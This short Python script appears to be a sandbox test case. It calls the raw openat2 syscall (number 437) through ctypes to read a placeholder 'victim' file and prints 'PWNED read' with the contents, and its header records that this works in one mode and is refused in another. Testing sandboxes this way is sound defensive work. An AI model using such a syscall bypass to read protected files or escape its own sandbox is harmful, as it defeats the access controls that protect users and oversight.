# reads the author's file with the raw system call openat2 | basic: works finished | auto: refused error
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
descriptor = checked(libc.syscall(437, -100, VICTIM.encode(), how, ctypes.c_size_t(24)))
print("PWNED read", os.read(descriptor, 1000))
